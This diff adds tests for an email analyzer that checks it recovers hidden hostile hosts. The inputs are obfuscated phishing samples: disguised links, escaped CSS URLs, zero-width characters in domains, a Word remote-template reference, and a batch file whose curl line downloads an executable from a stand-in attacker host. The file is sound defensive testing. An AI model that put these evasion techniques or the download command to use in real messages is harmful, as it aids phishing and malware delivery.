@@ -1,0 +1,75 @@
+import { describe, expect, test } from 'vitest';
+import { analyzeMail } from '../../../core/mail/analyze-mail.ts';
+import { detectType } from '../../../core/mail/file-type.ts';
+import { bytesOf, join, withAttachment } from './mail-builder.ts';
+import { zipOf } from './archive/zip-builder.ts';
+
+/* Ways in which attackers keep what they send out of sight of programs. */
+
+const html = (page: string): Uint8Array =>
+  bytesOf(`From: a@b.example\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${page}`);
+
+const hostsOf = async (mail: Uint8Array): Promise<string[]> =>
+  (await analyzeMail(mail)).indicators.filter(({ type }) => type === 'domain').map(({ value }) => value);
+
+describe('addresses of a page', () => {
+  test.each<[string, string]>([
+    ['a control character in front', '<a href=" \u0001https://evil.example/">x</a>'],
+    ['a script whose scheme is broken up', '<a href="java\tscript:location=\'https://evil.example/\'">x</a>'],
+    ['escapes in a style', '<div style="background:u\\72l(https://evil.example/a)">x</div>'],
+    ['long escapes in a style', '<div style="background:u\\000072 l(https://evil.example/a)">x</div>'],
+    ['a form of AMP', '<form method="post" action-xhr="https://evil.example/a"><input name="p"></form>'],
+    ['base64 in a path', `<a href="/r/${Buffer.from('https://evil.example/a').toString('base64url')}">x</a>`],
+  ])('%s', async (_, page) => {
+    expect(await hostsOf(html(page.replace('"/r/', '"https://r.example/r/')))).toContain('evil.example');
+  });
+
+  test('a style with other escapes stays what it is', async () => {
+    expect(await hostsOf(html('<p style="font-family:\\30e1 \\30a4;background:url(https://b.example/\\61)">'))).toEqual(
+      ['b.example'],
+    );
+  });
+});
+
+test('characters without a shape do not cut a name short', async () => {
+  const mail = bytesOf(
+    'From: a@b.example\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nhttps://ev\u200bil.exam\u00adple/a です\r\n',
+  );
+  const { links } = await analyzeMail(mail);
+  expect(links.map(({ href, host }) => [href, host])).toEqual([['https://ev\u200bil.exam\u00adple/a', 'evil.example']]);
+});
+
+test('a batch file behind the mark of UTF-16 is read as what the command line runs', async () => {
+  const script = '&cls\r\n@echo off\r\ncurl https://evil.example/a.exe -o a.exe\r\n';
+  expect(await hostsOf(withAttachment('a.bat', join(Uint8Array.of(0xff, 0xfe), script)))).toEqual(['evil.example']);
+  const wide = Buffer.from(`\ufeff${script}`, 'utf16le');
+  expect(await hostsOf(withAttachment('a.bat', new Uint8Array(wide)))).toEqual(['evil.example']);
+});
+
+test('a picture of tags under its document type is one', () => {
+  expect(detectType(bytesOf('<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg/>'))).toBe('image/svg+xml');
+  expect(detectType(bytesOf('<!-- drawn --> <svg/>'))).toBe('image/svg+xml');
+});
+
+test('a share that is written with slashes', async () => {
+  const template =
+    '<Relationships><Relationship Id="a" Type="x/attachedTemplate" Target="//198.51.100.7/a.dotm" TargetMode="External"/></Relationships>';
+  const document = zipOf([
+    { name: '[Content_Types].xml', content: '<Types/>' },
+    { name: 'word/document.xml', content: '<w:document/>' },
+    { name: 'word/_rels/settings.xml.rels', content: template },
+  ]);
+  const { indicators } = await analyzeMail(withAttachment('a.docx', document));
+  expect(indicators).toContainEqual({
+    family: 'communication',
+    type: 'ipv4',
+    value: '198.51.100.7',
+    where: 'attachment a.docx (remote-template)',
+  });
+});
+
+test('a page with eight million characters of base64 in one run is read to its end', async () => {
+  const page = `<html><script>var a="${'QUFB'.repeat(2_500_000)}"</script>`;
+  const { attachments } = await analyzeMail(withAttachment('a.html', bytesOf(page)));
+  expect(attachments[0]?.detectedType).toBe('text/html');
+});
